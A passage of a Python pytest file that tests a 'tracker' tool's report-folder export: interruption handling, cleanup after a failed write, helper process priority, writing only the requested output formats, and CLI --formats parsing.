    timer = threading.Timer(0.5, os.kill, (os.getpid(), signal.SIGINT))
    timer.start()
    try:
        with pytest.raises(KeyboardInterrupt):
            exports._duckdb_copy("SELECT sum(hash(i)) AS n FROM range(1000000000000) t(i)",
                                 tmp_path / "n.csv", "FORMAT csv", "256MB")
    finally:
        timer.cancel()


def test_findings_jsonl_failing_part_way_stops_the_workbook_process_reading_it(
        demo, tmp_path, monkeypatch):
    """The workbook's process reads findings.jsonl as it is written: if writing it fails
    part-way, that process is stopped (not left waiting for rows) and nothing is left."""
    import tracker.exports as ex

    r = DemoResult(demo.findings, demo.works, _secret_run(demo), demo.subjects)
    started = _record_helper_starts(monkeypatch)
    real = ex.write_findings_jsonl

    def half(findings, path):
        real(list(findings)[:10], path)
        raise OSError("disk full")

    monkeypatch.setattr(ex, "write_findings_jsonl", half)
    with pytest.raises(OSError, match="disk full"):
        write_report_folder(r, tmp_path / "out")
    (proc, payload, run_file), = started
    assert proc.poll() is not None
    assert not payload.exists() and not run_file.exists()
    assert list((tmp_path / "out").iterdir()) == []


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="a thread's own priority")
def test_the_finding_files_helpers_run_at_a_lower_priority_than_the_case_file(
        demo, tmp_path, monkeypatch):
    """While the run is recorded in the case file (``meanwhile``), the thread writing
    findings.parquet and findings.csv and the process writing findings.xlsx run at
    :data:`HELPER_NICENESS` more than the calling thread; the calling thread keeps its own."""
    import threading

    import tracker.exports as ex

    def priority(tid: int) -> int:
        return os.getpriority(os.PRIO_PROCESS, tid)

    mine = priority(threading.get_native_id())
    want = min(19, mine + ex.HELPER_NICENESS)
    if want == mine:
        pytest.skip("this process already runs at the lowest priority")
    seen: dict[str, int] = {}
    real_parquet = ex.write_findings_parquet

    def parquet(*a, **kw):
        seen["tables"] = priority(threading.get_native_id())
        return real_parquet(*a, **kw)

    monkeypatch.setattr(ex, "write_findings_parquet", parquet)
    started = _record_helper_starts(monkeypatch)

    def meanwhile() -> None:  # the workbook's process is running: its priority, read
        (proc,) = [s.proc for s in started]
        for _ in range(200):  # until it has set its own (it does so as it starts)
            seen["workbook"] = priority(proc.pid)
            if seen["workbook"] != mine:
                break
            time.sleep(0.05)
        seen["caller"] = priority(threading.get_native_id())

    write_report_folder(demo, tmp_path / "r", meanwhile=meanwhile)
    assert seen == {"tables": want, "workbook": want, "caller": mine}
    assert priority(threading.get_native_id()) == mine


@pytest.mark.parametrize("helper", [False, True], ids=["inline", "workbook-process"])
def test_only_the_formats_asked_for_are_written_and_hold_the_same_rows(demo, tmp_path,
                                                                       monkeypatch, helper):
    """``formats``: only those finding files (and report.html, run.json) come into the
    folder, with the same bytes or cells as a folder of every file; the files they are
    written from go with the writing folder; a previous run's other files are removed;
    progress counts the files written; run.json and the report say what was asked for."""
    duckdb = pytest.importorskip("duckdb")
    if helper:
        _record_helper_starts(monkeypatch)
    full = write_report_folder(demo, tmp_path / "full")
    out = tmp_path / "out"
    write_report_folder(demo, out)  # a previous run's files, every one
    calls: list = []
    files = write_report_folder(demo, out, formats=["CSV", "xlsx"],
                                progress=lambda *a: calls.append(a))
    assert list(files) == ["findings.csv", "findings.xlsx", "run.json", "report.html"]
    assert sorted(p.name for p in out.iterdir()) == sorted(files)  # no other, no hidden
    assert calls[-1] == ("report", 4, 4)
    assert files["findings.csv"].read_bytes() == full["findings.csv"].read_bytes()
    wb, wb_full = (load_workbook(p, read_only=True)["findings"]
                   for p in (files["findings.xlsx"], full["findings.xlsx"]))
    assert [[c.value for c in r] for r in wb.iter_rows()] == [
        [c.value for c in r] for r in wb_full.iter_rows()]
    run = json.loads(files["run.json"].read_text("utf-8"))
    assert run["outputs"]["formats"] == ["csv", "xlsx"]
    assert set(run["outputs"]["files"]) == set(files)
    assert run["outputs"]["left_out"] == []
    page = " ".join(files["report.html"].read_text("utf-8").split())
    assert "<b>findings.csv, findings.xlsx</b>, next to this report, hold every finding" in page
    assert "Only the finding files asked for were written (formats: csv, xlsx)" in page

    files = write_report_folder(demo, out, formats=["parquet"])
    assert sorted(p.name for p in out.iterdir()) == ["findings.parquet", "report.html",
                                                      "run.json"]
    n = len(demo.findings)
    assert duckdb.sql(f"SELECT count(*) FROM '{files['findings.parquet']}'").fetchall() == [(n,)]


def test_a_folder_of_no_finding_file_says_no_file_holds_every_finding(demo, tmp_path,
                                                                     monkeypatch):
    """``formats=[]``: report.html and run.json only, and the page says that no file next
    to it holds every finding; a workbook alone past Excel's rows says the same."""
    import tracker.exports as ex

    files = write_report_folder(demo, tmp_path / "none", formats=[])
    assert list(files) == ["run.json", "report.html"]
    page = " ".join(files["report.html"].read_text("utf-8").split())
    assert "No file next to this report holds every finding" in page
    assert "no finding file was asked for (formats none)" in page
    monkeypatch.setattr(ex, "XLSX_MAX_ROWS", len(demo.findings) - 1)
    files = write_report_folder(demo, tmp_path / "xlsx", formats=["xlsx", "json"])
    assert list(files) == ["findings.json", "run.json", "report.html"]
    reasons = " ".join(left_out(files))
    assert "findings.xlsx: not written" in reasons
    assert "no file of this folder holds every finding" in reasons


def test_an_unknown_format_is_refused_before_the_folder_is_made(demo, tmp_path):
    with pytest.raises(ValueError, match="unknown format 'pdf'; known: csv, xlsx"):
        write_report_folder(demo, tmp_path / "r", formats=["csv", "pdf"])
    assert not (tmp_path / "r").exists()


def test_the_command_line_writes_the_formats_asked_for(tmp_path, capsys):
    from tracker.cli import main

    out_dir = tmp_path / "report"
    screen = ["screen", "--works", str(tracker.demo_works_path()), "--out", str(out_dir),
              "--no-progress", "--db", str(tmp_path / "c.db")]
    assert main([*screen, "--formats", "parquet,network"]) == 0
    assert sorted(p.name for p in out_dir.iterdir()) == [
        "findings.parquet", "network.gexf", "network.graphml", "report.html", "run.json"]
    capsys.readouterr()
    assert main([*screen, "--formats", "parquet,pdf"]) == 2
    err = capsys.readouterr().err.strip()
    assert err == ("tracker: error: --formats: unknown format 'pdf'; known: csv, xlsx, "
                   "parquet, jsonl, json, network")
    assert main([*screen, "--formats", "none"]) == 0
    assert sorted(p.name for p in out_dir.iterdir()) == ["report.html", "run.json"]
    assert main([*screen, "--formats", "csv", "--formats", "xlsx,json"]) == 0  # repeated
    assert sorted(p.name for p in out_dir.iterdir()) == [
        "findings.csv", "findings.json", "findings.xlsx", "report.html", "run.json"]
    capsys.readouterr()
    for bad in (["none,csv"], [""]):
        assert main([*screen, "--formats", *bad]) == 2
        assert capsys.readouterr().err.startswith("tracker: error: --formats: ")


def test_the_summary_names_the_files_written_and_their_size(tmp_path, capsys, monkeypatch):
    """The summary's last lines say what the folder holds and how large it is; from
    ``FORMATS_HINT_BYTES`` on, that ``--formats`` writes fewer finding files."""
    import tracker.cli as cli

    out_dir = tmp_path / "report"
    screen = ["screen", "--works", str(tracker.demo_works_path()), "--out", str(out_dir),
              "--no-progress", "--no-record", "--formats", "csv"]
    assert cli.main(screen) == 0
    said = " ".join(capsys.readouterr().out.split())
    names = ["findings.csv", "run.json", "report.html"]
    assert sorted(p.name for p in out_dir.iterdir()) == sorted(names)
    from rich.filesize import decimal

    size = decimal(sum((out_dir / n).stat().st_size for n in names))
    assert f"files: 3 in {out_dir} ({size}): {', '.join(names)}" in said, said
    assert "--formats writes only" not in said
    monkeypatch.setattr(cli, "FORMATS_HINT_BYTES", 1)
    assert cli.main(screen) == 0
    said = " ".join(capsys.readouterr().out.split())
    size = decimal(sum((out_dir / n).stat().st_size for n in names))  # this run's
    assert f"({size}; --formats writes only the finding files named" in said, said
